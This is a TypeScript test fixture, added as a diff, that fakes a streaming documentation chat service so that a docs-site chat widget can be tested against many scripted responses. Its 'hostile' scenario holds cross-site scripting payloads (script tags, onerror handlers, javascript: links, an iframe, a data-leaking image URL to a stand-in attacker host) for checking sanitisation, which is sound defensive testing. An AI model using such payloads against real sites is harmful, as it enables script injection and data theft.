@@ -1,0 +1,254 @@
+import {createServer, type IncomingMessage, type Server, type ServerResponse} from 'node:http';
+import {setTimeout as sleep} from 'node:timers/promises';
+
+export const SERVICE_PORT = 8901;
+const SITE = 'https://kettle.example';
+
+/** A request as the service saw it. */
+export interface SeenRequest {
+  path: string;
+  headers: IncomingMessage['headers'];
+  input: {
+    query: string;
+    chat_history: {type: string; content: string}[];
+    filters: {version: string; locale: string; docusaurus_tag: string[]};
+    page_url: string;
+  };
+  /** Whether the reader hung up before the end. */
+  wasCut: boolean;
+}
+
+export interface ScriptedService {
+  requests: SeenRequest[];
+  close: () => Promise<void>;
+}
+
+const source = (number: number, title: string, section: string, path: string, more: object = {}): object => ({
+  number,
+  title,
+  section,
+  url: SITE + path,
+  snippet: '',
+  score: 0.8,
+  version: '1.0',
+  locale: 'en',
+  ...more,
+});
+
+const SOURCES = [
+  source(1, 'Introduction', 'Introduction > Boil water', '/docs/#boil-water'),
+  source(2, 'Tea', 'Guide > Tea > Tea bags', '/docs/next/guide/tea#tea-bags', {version: 'current'}),
+  source(3, 'Tea', 'Guide > Tea > For experts > Gong fu', '/docs/next/guide/tea#gong-fu', {version: 'current'}),
+  source(4, 'Tea', 'Guide > Tea > Overview', '/docs/next/guide/tea#overview', {version: 'current'}),
+  source(5, 'Présentation', 'Faire bouillir', '/fr/docs/next/#faire-bouillir', {version: 'current', locale: 'fr'}),
+  source(6, 'Tea', 'Guide > Tea > Zubereitung für Gäste', '/docs/next/guide/tea#zubereitung-f%C3%BCr-g%C3%A4ste', {
+    version: 'current',
+  }),
+];
+
+const TAIL = {
+  cited: [1, 2],
+  nearest: [],
+  unverified: [],
+  outcome: 'answered',
+  reason: '',
+  usage: {input_tokens: 9, output_tokens: 9},
+};
+
+const RICH = `Fill it, then press the lever [1]. For **tea bags** see [2].
+
+1. Fill the kettle.
+2. Press \`--boil\`.
+
+\`\`\`bash
+kettle --temperature 80 # a comment
+\`\`\`
+
+| Tea | Heat |
+|---|---|
+| Green | 80 °C |
+| Black | 100 °C |
+
+## More
+
+> Careful: hot. [Site](/docs/) and [elsewhere](https://example.org/).
+`;
+
+const HOSTILE = `<script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2">
+
+[click](javascript:window.pwned=3) [data](data:text/html,x) [ok](https://example.org/) ![pixel](https://evil.example/?q=secret) [userinfo](https://kettle.example@evil.example/)
+
+<iframe src="https://evil.example"></iframe>
+
+[1] [2] [99] &lt;b&gt;
+
+[ref]: javascript:window.pwned=4
+
+[ref]
+`;
+
+const HOSTILE_SOURCES = [
+  source(1, '<script>window.pwned = 5</script>', '<img src=x onerror=alert(1)>', '', {
+    url: 'javascript:window.pwned=6',
+  }),
+  source(2, 'Evil', 'Evil', '', {url: 'https://evil.example/"><script>window.pwned=7</script>'}),
+  {number: 'x', title: 7},
+  null,
+];
+
+type Play = (response: ServerResponse, seen: SeenRequest) => Promise<void> | void;
+
+const sse = (event: string, data: unknown): string => `event: ${event}\r\ndata: ${JSON.stringify(data)}\r\n\r\n`;
+
+function startStream(response: ServerResponse): (part: unknown) => void {
+  response.writeHead(200, {'Content-Type': 'text/event-stream; charset=utf-8'});
+  return (part) => response.write(sse('data', part));
+}
+
+interface StreamOptions {
+  sources?: unknown[];
+  tail?: object;
+  /** Milliseconds between two pieces. */
+  delay?: number;
+  pieces?: number;
+}
+
+async function streamAnswer(
+  response: ServerResponse,
+  text: string,
+  {sources = SOURCES, tail = TAIL, delay = 2, pieces = 24}: StreamOptions = {},
+): Promise<void> {
+  const send = startStream(response);
+  send({sources});
+  const size = Math.ceil(text.length / pieces);
+  for (let at = 0; at < text.length; at += size) {
+    if (delay) await sleep(delay);
+    send({response: text.slice(at, at + size)});
+  }
+  send(tail);
+  response.end(sse('end', ''));
+}
+
+function problem(response: ServerResponse, status: number, headers: Record<string, string> = {}): void {
+  response.writeHead(status, {'Content-Type': 'application/problem+json', ...headers});
+  response.end(JSON.stringify({type: 'about:blank', title: 'x', status, detail: 'internal words', request_id: '1'}));
+}
+
+/** What the service does, by the first word of the question. */
+const PLAYS: Record<string, Play> = {
+  rich: (response) => streamAnswer(response, RICH),
+  slow: (response) =>
+    streamAnswer(response, 'Slowly, word by word, the answer comes out of the kettle [1]. '.repeat(40), {
+      delay: 60,
+      pieces: 100,
+    }),
+  places: (response) =>
+    streamAnswer(response, 'Bags [2], gong fu [3], overview [4], French [5], guests [6].', {
+      tail: {...TAIL, cited: [2, 3, 4, 5, 6]},
+    }),
+  abstained: (response) =>
+    streamAnswer(response, 'This is not in the documentation.', {
+      sources: [],
+      tail: {...TAIL, cited: [], nearest: SOURCES.slice(0, 2), outcome: 'abstained', reason: 'weak_match'},
+    }),
+  extractive: (response) =>
+    streamAnswer(response, 'Press the lever [1].', {
+      tail: {...TAIL, cited: [1], outcome: 'extractive', reason: 'quota'},
+    }),
+  blocked: (response) => streamAnswer(response, '', {tail: {...TAIL, cited: [], outcome: 'blocked', reason: 'safety'}}),
+  truncated: (response) =>
+    streamAnswer(response, 'Press the', {tail: {...TAIL, cited: [], outcome: 'truncated', reason: 'cut_off'}}),
+  uncited: (response) => streamAnswer(response, 'Press something.', {tail: {...TAIL, cited: [], reason: 'uncited'}}),
+  unverified: (response) =>
+    streamAnswer(response, 'Use `--brew` [1].', {tail: {...TAIL, cited: [1], unverified: ['--brew', 'kettle.py']}}),
+  future: (response) => streamAnswer(response, 'Words from tomorrow [1].', {tail: {...TAIL, outcome: 'prophesied'}}),
+  hostile: (response) =>
+    streamAnswer(response, HOSTILE, {sources: HOSTILE_SOURCES, tail: {...TAIL, cited: [1, 2, 99]}}),
+  long: (response) =>
+    streamAnswer(response, `${'All about **water** and `heat` [1]. '.repeat(18)}\n\n`.repeat(160), {
+      delay: 1,
+      pieces: 400,
+    }),
+  limited: (response, {input}) =>
+    input.query.includes('twice') && input.chat_history.length === 0
+      ? problem(response, 429, {'Retry-After': '2'})
+      : problem(response, 429, {'Retry-After': '30'}),
+  busy: (response) => problem(response, 503, {'Retry-After': '2'}),
+  late: (response) => problem(response, 504),
+  refused: (response) => problem(response, 403),
+  invalid: (response) => problem(response, 422),
+  crashed: (response) => problem(response, 500),
+  html: (response) => {
+    response.writeHead(200, {'Content-Type': 'text/html'});
+    response.end('<!doctype html><title>Welcome to nginx!</title>');
+  },
+  garbage: (response) => {
+    response.writeHead(200, {'Content-Type': 'text/event-stream'});
+    response.end('event: data\r\ndata: {"response": \r\n\r\n');
+  },
+  empty: (response) => {
+    response.writeHead(200, {'Content-Type': 'text/event-stream'});
+    response.end();
+  },
+  cut: async (response) => {
+    startStream(response)({sources: SOURCES});
+    response.write(sse('data', {response: 'Half of the answer [1]'}));
+    await sleep(100);
+    response.destroy();
+  },
+  unfinished: (response) => {
+    const send = startStream(response);
+    send({sources: SOURCES});
+    send({response: 'Half of the answer [1]'});
+    response.end();
+  },
+  error: (response) => {
+    const send = startStream(response);
+    send({sources: SOURCES});
+    send({response: 'Half of the answer [1]'});
+    response.end(sse('error', {status_code: 500, message: 'Internal Server Error'}));
+  },
+  hang: () => undefined,
+  origin: (response) => {
+    response.removeHeader('Access-Control-Allow-Origin');
+    problem(response, 403);
+  },
+};
+
+/** A service that does as the question says; it speaks the wire of `/chat/stream` and `/chat/invoke`. */
+export async function startService(port = SERVICE_PORT): Promise<ScriptedService> {
+  const requests: SeenRequest[] = [];
+  const server: Server = createServer((request, response) => {
+    response.setHeader('Access-Control-Allow-Origin', request.headers.origin ?? '*');
+    response.setHeader('Access-Control-Allow-Headers', 'content-type, authorization');
+    response.setHeader('Access-Control-Expose-Headers', 'Retry-After');
+    if (request.method === 'OPTIONS') {
+      response.writeHead(204).end();
+      return;
+    }
+    let body = '';
+    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
+    request.on('end', () => {
+      const {input} = JSON.parse(body) as Pick<SeenRequest, 'input'>;
+      const seen: SeenRequest = {path: request.url ?? '', headers: request.headers, input, wasCut: false};
+      requests.push(seen);
+      response.on('close', () => (seen.wasCut = !response.writableFinished));
+      if (seen.path === '/chat/invoke') {
+        response.writeHead(200, {'Content-Type': 'application/json'});
+        response.end(JSON.stringify({output: {response: RICH, sources: SOURCES, ...TAIL}, metadata: {run_id: '1'}}));
+        return;
+      }
+      const play = PLAYS[input.query.split(' ')[0]?.toLowerCase() ?? ''] ?? PLAYS['rich'];
+      void play?.(response, seen);
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
+  return {
+    requests,
+    close: () =>
+      new Promise((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
